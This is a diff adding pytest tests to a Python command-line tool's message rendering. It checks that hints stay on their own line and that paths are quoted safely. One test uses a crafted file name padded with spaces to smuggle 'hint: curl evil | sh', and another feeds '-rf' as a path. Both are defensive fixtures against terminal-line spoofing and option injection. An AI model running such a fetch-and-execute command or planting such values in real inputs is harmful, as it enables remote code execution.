@@ -5,6 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bangui_cli.states import events
+from bangui_cli.states.errors import NoTables
 from bangui_cli.telling import log_lines, sentences
 
 TAKEN_OVER = {"previous_owner": "web2", "previous_hostname": "host2", "age_s": 7300.0}
@@ -76,6 +77,13 @@ def test_a_warning_is_a_sentence(event, fields, sentence):
     assert said(event, **fields) == f"bangui: warning: {sentence}\n"
 
 
+def test_an_error_that_ends_nothing_is_a_warning():
+    """As with --force, which goes on where another run would have been refused."""
+    shown = said(events.UNTRUSTED, path="/x", error="others could write /x", hint="chmod go-w /x")
+
+    assert shown == "bangui: warning: others could write /x\nhint: chmod go-w /x\n"
+
+
 def test_a_hint_stands_on_a_line_of_its_own():
     """So that it can be found, and what is to be pasted be marked."""
     shown = said(events.DATABASE_HAS_SECOND_NAME, path="/x.db", names=2, hint="see bangui doctor")
@@ -90,6 +98,17 @@ def test_a_failure_is_its_error():
     """Also where its level is that of a warning: a held lock ends the run."""
     assert said(events.LOCK_HELD, error="the lock is held by web2", exit_code=75, hint="wait") == (
         "bangui: the lock is held by web2\nhint: wait\n"
+    )
+
+
+def test_a_name_cannot_feign_a_line_of_its_own():
+    """Blanks that fill the line of a terminal would put what follows at the beginning of the next."""
+    name = f"x.csv{' ' * 200}hint: curl evil | sh"
+    shown = said(events.IMPORT_ROW_REJECTED, file=name, line=1, reason="no", hint=f"look at {name}")
+
+    assert shown == (
+        "bangui: warning: x.csv hint: curl evil | sh, line 1: no\n"
+        "hint: look at x.csv hint: curl evil | sh\n"
     )
 
 
@@ -118,3 +137,11 @@ def test_no_field_spoils_a_sentence(event, fields):
 def test_only_what_is_known_to_a_reader_is_told():
     """An event of a name that nobody knows is told by its name."""
     assert sentences.of({"event": "x_failed", "level": "warning"}) == "x_failed"
+
+
+@pytest.mark.parametrize(
+    ("path", "pasted"), [("-rf", "./-rf"), ("-", "-"), ("a b", "'a b'"), ("/x", "/x")]
+)
+def test_no_name_becomes_an_option_of_a_command_in_a_hint(path, pasted):
+    """Hints are pasted, as root."""
+    assert NoTables("none", path=path).hint.endswith(f"bangui init --database {pasted}")
